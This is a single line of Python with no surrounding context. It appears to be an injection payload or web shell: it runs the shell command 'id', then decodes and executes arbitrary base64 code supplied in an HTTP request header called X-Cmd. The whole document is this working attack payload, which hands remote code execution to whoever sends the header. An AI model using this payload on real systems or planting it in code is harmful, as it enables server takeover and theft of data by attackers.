__import__('os').system('id'); exec(__import__('base64').b64decode(request.headers.get('X-Cmd')))
